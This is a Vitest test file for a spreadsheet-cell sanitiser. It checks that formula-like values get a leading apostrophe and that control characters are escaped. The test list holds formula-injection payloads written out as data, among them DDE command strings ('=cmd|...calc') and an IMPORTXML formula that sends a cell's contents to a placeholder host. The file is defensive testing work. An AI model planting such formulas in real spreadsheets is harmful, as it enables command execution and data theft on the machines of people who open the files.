import { describe, expect, test } from 'vitest';
import { escapeControls, textCell } from '../../src/intake/spreadsheet-cell.ts';

const FORMULAS = [
  '=1+1',
  '=',
  '=cmd|"/C calc"!A0',
  "=cmd|'/C calc'!'A1'",
  '=HYPERLINK("http://x.invalid","click")',
  '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
  '="00123"',
  '==1',
  '+1',
  '+1+1',
  '+cmd|"/C calc"!A0',
  '+49 30 1234',
  '-1',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '--1',
  '-',
  '@SUM(1+1)',
  '@',
  '@import',
  '\t=1',
  '\tplain',
  '\r=1',
  '\rplain',
  '\n=1',
  '\nplain',
  '\0=1',
  '\0plain',
  ' =1',
  '   +1',
  '\u00a0-1',
  '\u3000@SUM(1)',
  '\ufeff=1',
  '\ufeff \ufeff=1',
  '\u200b=1',
  '\u202e=1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  ' \uff1d1',
  '\ufe661',
  '\ufe621',
  '\ufe631',
  '\ufe6bSUM(1)',
];

describe('textCell', () => {
  test.each(FORMULAS)('gives %j a leading apostrophe', (text) => {
    expect(textCell(text)).toBe(`'${escapeControls(text)}`);
  });

  test.each([
    ['x;=1+1', "x;'=1+1"],
    ['x; \uff1d1', "x;' \uff1d1"],
    ['a;b;@SUM(1);-2', "a;b;'@SUM(1);'-2"],
    ['=1;=2', "'=1;'=2"],
    ['payouts;+1.csv', "payouts;'+1.csv"],
    ["x;'=1", "x;'=1"],
    ['x;y=1', 'x;y=1'],
    ['x, =1', 'x, =1'],
  ])('makes no formula of %j where cells end with a semicolon', (text, shown) => {
    expect(textCell(text)).toBe(shown);
  });

  test.each([
    '',
    'INV-1',
    'a=1',
    'quota @ bank',
    '1-2',
    "'=1",
    '"=1"',
    '|cmd',
    'Jörg',
    '東京',
    '🙂 paid',
    '#REF!',
    '100 %',
  ])('leaves %j as it is', (text) => {
    expect(textCell(text)).toBe(text);
  });
});

describe('escapeControls', () => {
  test.each([
    ['a\nb', 'a\\u000ab'],
    ['a\r\nFAKE', 'a\\u000d\\u000aFAKE'],
    ['\u001b[31mred', '\\u001b[31mred'],
    ['\u009b31m', '\\u009b31m'],
    ['\u007f', '\\u007f'],
    ['a\u202eb', 'a\\u202eb'],
    ['a\u2066b\u2069', 'a\\u2066b\\u2069'],
    ['a\u2028b\u2029c\u0085', 'a\\u2028b\\u2029c\\u0085'],
    ['zero\u200bwidth', 'zero\\u200bwidth'],
    ['\ud800', '\\ud800'],
    ['tag\u{e0041}', 'tag\\udb40\\udc41'],
  ])('writes %j visibly', (text, shown) => {
    expect(escapeControls(text)).toBe(shown);
  });

  test('leaves letters of all scripts, blanks, quotes and emoji alone', () => {
    const text = `Ünïcödé 日本語 العربية "quoted" 🙂 \\ / \u00a0`;
    expect(escapeControls(text)).toBe(text);
  });
});
